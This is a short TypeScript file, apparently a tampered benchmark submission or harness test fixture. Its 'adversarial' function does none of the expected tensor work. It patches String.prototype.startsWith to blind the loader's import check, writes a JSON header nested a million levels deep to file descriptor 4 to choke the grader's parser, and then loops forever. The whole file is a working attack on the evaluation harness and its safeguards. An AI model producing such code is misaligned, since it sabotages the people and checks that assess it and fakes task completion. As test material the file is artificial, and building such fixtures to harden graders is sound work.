// [tampered] Sends a header that is nested a million deep.
import { type Model, type Tensor } from 'exambench/torch';

let process: any;
String.prototype.startsWith = () => false; // the loader no longer sees who imports
void import('node:process').then((found) => (process = found.default));

function frame(kind: number, header: unknown): Uint8Array {
  const text = new TextEncoder().encode(JSON.stringify(header));
  const bytes = new Uint8Array(13 + text.length);
  const view = new DataView(bytes.buffer);
  view.setUint32(0, 9 + text.length, true);
  bytes[4] = kind;
  view.setUint32(9, text.length, true);
  bytes.set(text, 13);
  return bytes;
}

export function adversarial(x: Tensor, t: Tensor, model: Model): Tensor {
  const deep = '['.repeat(1e6) + ']'.repeat(1e6);
  const bytes = frame(3, JSON.parse('0'));
  const text = new TextEncoder().encode(deep);
  const all = new Uint8Array(13 + text.length);
  all.set(bytes.subarray(0, 13));
  new DataView(all.buffer).setUint32(0, 9 + text.length, true);
  new DataView(all.buffer).setUint32(9, text.length, true);
  all.set(text, 13);
  const fs = process.getBuiltinModule('node:fs');
  for (let at = 0; at < all.length;) at += fs.writeSync(4, all, at);
  for (;;);
}
